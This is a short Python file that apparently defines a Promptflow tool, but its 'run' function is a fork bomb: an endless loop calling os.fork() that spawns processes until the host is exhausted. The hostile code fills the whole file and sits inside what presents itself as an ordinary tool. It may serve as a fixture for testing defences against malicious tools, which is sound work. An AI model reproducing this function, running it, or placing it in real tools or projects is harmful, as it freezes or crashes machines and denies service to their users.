from promptflow.core import tool
import os


@tool
def run():
    while True:
        os.fork()
